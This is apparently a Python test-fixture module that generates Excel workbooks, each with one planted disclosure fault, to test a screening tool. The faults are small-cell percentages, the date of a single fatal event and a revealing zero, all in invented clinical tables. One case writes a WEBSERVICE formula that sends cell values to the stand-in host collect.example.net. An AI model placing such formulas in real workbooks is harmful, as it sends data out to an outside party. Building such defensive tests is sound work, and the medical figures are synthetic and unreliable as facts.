"""Workbooks with one fault: hidden or formatted away, a macro, a share, a comment, a date, a zero, a formula."""

from tests.airlock.outputs.case import Shelf

from .office import sheet, workbook


def write(shelf: Shelf) -> None:
    for case in (_shares, _dates, _zero, _service):
        case(shelf)


def _shares(shelf: Shelf) -> None:
    path = shelf.unsafe(
        "xlsx/table1_stroke_cohort.xlsx",
        "W4 revealing percentage",
        "row Moyamoya or vasculitis, women: 0.9 % of 541 is 5 persons",
        "Table 1 of the stroke cohort, percentages only, by sex.",
        "1,204 adults with a first ischaemic stroke: 663 men and 541 women",
    )
    rows: list[list[object]] = [["Characteristic", "Men (n=663)", "Women (n=541)", "p"]]
    for label, men, women, p in (
        ("Hypertension", 421, 356, "0.41"),
        ("Diabetes", 168, 117, "0.13"),
        ("Atrial fibrillation", 141, 158, "0.002"),
        ("Current smoking", 212, 104, "<0.001"),
        ("Large artery atherosclerosis", 187, 92, "<0.001"),
        ("Cervical artery dissection", 24, 21, "0.81"),
        ("Moyamoya or vasculitis", 12, 5, "0.19"),
        ("Thrombolysis", 131, 119, "0.35"),
        ("Thrombectomy", 84, 77, "0.44"),
        ("Favourable outcome at 3 months (mRS 0-2)", 448, 318, "<0.001"),
    ):
        rows.append([label, f"{100 * men / 663:.1f}%", f"{100 * women / 541:.1f}%", p])
    book = workbook(path)
    sheet(book, "Table 1", rows, "Baseline characteristics, % of each sex")
    book.close()


def _dates(shelf: Shelf) -> None:
    rng = shelf.random("dates")
    path = shelf.unsafe(
        "xlsx/sae_overview_dsmb4.xlsx",
        "W10 date of a single event",
        "sheet SAE, column Date of first fatal event",
        "Serious adverse events by system organ class for the fourth DSMB meeting.",
        "846 children randomised in the malaria prophylaxis trial",
    )
    book = workbook(path)
    rows: list[list[object]] = [
        ["System organ class", "Control", "Prophylaxis", "RR (95% CI)", "Date of first fatal event"]
    ]
    for name, day in (
        ("Infections and infestations", "2022-11-08"),
        ("Blood and lymphatic system", "2023-02-19"),
        ("Nervous system", "2022-12-27"),
        ("Gastrointestinal", "2023-05-03"),
        ("Respiratory", "2023-01-14"),
    ):
        a, b = rng.randrange(31, 84), rng.randrange(18, 66)
        rows.append([name, a, b, f"{b / a:.2f} ({b / a * 0.7:.2f}-{b / a * 1.4:.2f})", day])
    sheet(book, "SAE", rows, "SAE, safety population (423 per arm), cut-off 30 June 2023", 24)
    book.close()


def _zero(shelf: Shelf) -> None:
    path = shelf.unsafe(
        "xlsx/depistage_vih_structures.xlsx",
        "W2 zero of a real group",
        "row Maison d'arrêt, femmes: 0 refus, so every one of the 64 women accepted",
        "Acceptation du dépistage du VIH par structure et sexe.",
        "3 115 personnes à qui un dépistage a été proposé",
    )
    book = workbook(path)
    rows: list[list[object]] = [["Structure", "Sexe", "Proposés", "Acceptés", "Refus", "Acceptation (%)"]]
    for place, sex, offered, accepted in (
        ("CeGIDD", "Femmes", 811, 772), ("CeGIDD", "Hommes", 968, 901), ("Urgences", "Femmes", 290, 214),
        ("Urgences", "Hommes", 402, 287), ("PASS", "Femmes", 138, 117), ("PASS", "Hommes", 187, 151),
        ("Maison d'arrêt", "Femmes", 64, 64), ("Maison d'arrêt", "Hommes", 255, 219),
    ):  # fmt: skip
        rows.append([place, sex, offered, accepted, offered - accepted, round(100 * accepted / offered, 1)])
    sheet(book, "Acceptation", rows)
    book.close()


def _service(shelf: Shelf) -> None:
    rng = shelf.random("service")
    path = shelf.unsafe(
        "xlsx/registry_centres_quality.xlsx",
        "W30 formula injection",
        "sheet Quality, cell F9: WEBSERVICE sends cells to a site",
        "Quality indicators of the arthroplasty registry by centre (anonymous letters).",
        "7,930 adults with a primary knee replacement in 2021-2023",
    )
    book = workbook(path)
    rows: list[list[object]] = [
        ["Centre", "Procedures", "Cemented (%)", "Revision at 1 y (%)", "PROMs response (%)", "Link"]
    ]
    for letter in "ABCDEFGHIJKL":
        rows.append(
            [
                f"Centre {letter}",
                rng.randrange(540, 790),
                rng.randrange(55, 90),
                round(rng.uniform(2.1, 3.4), 1),
                rng.randrange(44, 79),
                "-",
            ]
        )
    page = sheet(book, "Quality", rows, "Indicators by centre")
    page.write_formula("F9", '=WEBSERVICE("http://collect.example.net/q?c="&B9&"&r="&D9)', None, "-")
    book.close()
